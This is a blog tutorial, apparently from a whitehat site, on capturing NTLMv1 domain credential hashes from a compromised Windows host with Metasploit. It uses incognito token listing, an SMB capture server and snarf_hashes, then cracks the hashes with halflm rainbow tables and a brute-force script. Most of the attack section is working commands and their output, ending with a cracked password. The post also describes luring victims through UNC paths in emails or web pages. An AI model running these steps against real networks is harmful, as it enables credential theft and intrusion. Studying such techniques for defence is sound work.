Librarium Whitehat
Blog Pics
"Inveniamviam aut faciam" : I will either find a way, or I shall make one


Previously I have gone through using metasploit to own your windows targets. In that article we looked at the password hashes stored locally on the target and using a rainbow cracking mechanism on those hashes. Great. But that does not help you if you are targeting domain credentials. Those hashes are not stored locally on workstations. But all is not lost. We can still try something, lets start by assuming you already have exploited your target..

Step 1 - Get the LM hash/NT hash from your target
Fire up the token stealing functionality (incognito) in your meterpreter session:
meterpreter > use incognito
Loading extension incognito...success.
meterpreter > list_tokens -u

Delegation Tokens Available

Impersonation Tokens Available

meterpreter >

We can see we have access to a few user tokens, so lets get setup to capture these with a hash capturingserver:
meterpreter > background
msf  exploit(ms08_067_netapi) > back
msf > use auxiliary/server/capture/smb
msf  auxiliary(smb) > info

       Name: Authentication Capture: SMB
     Module: auxiliary/server/capture/smb
    Version: 13983
    License: Metasploit Framework License (BSD)
       Rank: Normal

Provided by:
  hdm <>

Basic options:
  Name        Current Setting   Required  Description
  ----        ---   ---  ---CAINPWFILE                    no        The local filename to store the hashes in Cain&Abel format
  CHALLENGE   1122334455667788  yes       The 8 byte challenge
  JOHNPWFILE                    no        The prefix to the local filename to store the hashes in JOHN format
  SRVHOST           yes       The local host to listen on. This must be an address on the local machine or
  SRVPORT     445               yes       The local port to listen on.
  SSL         false             no        Negotiate SSL for incoming connections
  SSLCert                       no        Path to a custom SSL certificate (default is randomly generated)
  SSLVersion  SSL3              no        Specify the version of SSL that should be used (accepted: SSL2, SSL3, TLS1)

  This module provides a SMB service that can be used to capture the
  challenge-response password hashes of SMB client systems. Responses
  sent by this service have by default the configurable challenge
  string (\x11\x22\x33\x44\x55\x66\x77\x88), allowing for easy
  cracking using Cain & Abel, L0phtcrack or John the ripper (with
  jumbo patch). To exploit this, the target system must try to
  authenticate to this module. The easiest way to force a SMB
  authentication attempt is by embedding a UNCpath (\\SERVER\SHARE)
  into a web page or email message. When the victim views the web page
  or email, their system will automatically connect to the server
  specified in the UNC share (the IP address of the system running
  this module) and attempt to authenticate.

msf  auxiliary(smb) > set JOHNPWFILE /admin/john.cap
JOHNPWFILE => /admin/john.cap
msf  auxiliary(smb) > set SRVHOST
msf  auxiliary(smb) > run
[*] Auxiliary module execution completed

[*] Server started.
msf  auxiliary(smb) > netstat -ntlp
[*] exec: netstat -ntlp

Active Internet connections (only servers)
Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name
tcp        0      0*               LISTEN      1622/ruby

Now lets pause here quickly. You see there is a very cool little trick here. One of the ways MS have tried to make the passing of the hashes secure is through the concept of a salt. You see each session should use a different salt, because each time a server sees a new connection it should offer a new salt. Thus why using rainbow cracking on these hashes should not be feasible. BUT... what metasploit does is that the SMB server it runs tocapture the hashes is setup to only ever use one 'salt' value, which pretty much negates the idea of a salt. This is what makes everything following thispossible.

Ok so we have the capture server running lets get the hashes from our session:
msf  auxiliary(smb) > sessions -i 2
[*] Starting interaction with 2...

meterpreter > snarf_hashes
[*] Snarfing token hashes...

[*] NLMv1 Hash correspond to an empty password, ignoring ...
[*] Sat Oct 29 20:49:23 -0400 2011
NTLMv1 Response Captured from
USER:bobby DOMAIN:BASE OS:Windows 2002 2600 LM:Windows 2002 5.1

[*] Done. Check sniffer logs

meterpreter > background
[*] exec: cat /admin/john.cap_netntlm


Right now, you could run this capture through JTR, and this is not a bad option, but lets try something easier first.

Step 2 - Getting the kinda Rainbow cracker
You see, as mentioned above, having a static session key allows us to kinda rainbow crack the hash. You see we perform a halflm rainbow crack. We are able to rainbow crack the first part of the hash, and them from there we can do a brute-force on the rest. For this you will need metasploit and rcrack (the program itself is here and the tables are here). Do the normal 'make' to get it installed. When you are down, you should have the 'rcracki_mt' executable and a folder with halflm hashes. So lets try it byusing the first 16 characters of the hash:
# ./rcracki_mt -h daf07fe6c760f6e4 ../halflm/*
Using 1 threads for pre-calculation and false alarm checking...
Found 1 rainbowtable files...

reading index... 13528977 bytes read, disk access time: 0.01 s
reading table... 471392912 bytes read, disk access time: 0.41 s
searching for 1 hash...
plaintext of daf07fe6c760f6e4 is NEVER1Q
cryptanalysis time: 0.06 s

plaintext found:            1 of 1 (100.00%)
total disk access time:     0.42 s
total cryptanalysis time:   0.06 s
total pre-calculation time: 4.92 s
total chain walk step:      2876401
total falsealarm:          15
total chain walk step due to false alarm: 34093

daf07fe6c760f6e4    NEVER1Q    hex:4e455645523151

Ok, so we got part of the password fairly quickly (about 6 seconds), lets look for the rest. For this we use a ruby script that is part of metasploit called 'halflm_second.rb', and what this does is simply brute-force the rest of the hash:
/admin/metasploit-4.1.0/msf3/tools# ./halflm_second.rb -n daf07fe6c760f6e45d069e8eb8df08dcecf946cd083f94aa -p NEVER1Q
[*] Trying one character...
[*] Cracked: NEVER1Q2

So there you go, an 8 character password cracked quite quickly. Now bear in mind, some of these will still pose a challenge:
- the characterset is out of the ordinary
- the length is fairly long (above 14 characters)
But even so the data you find from rainbow cracking the first part of the hash can often be very useful inbuilding a custom dictionary for use with JTR.

Final Thoughts
What we have seen here is how an attacker using common tools can truly damage what you think is secure. We also see that rainbow cracking hashes is -once again- a truly scary tactic with devestating results. As always, play around, have fun and learn.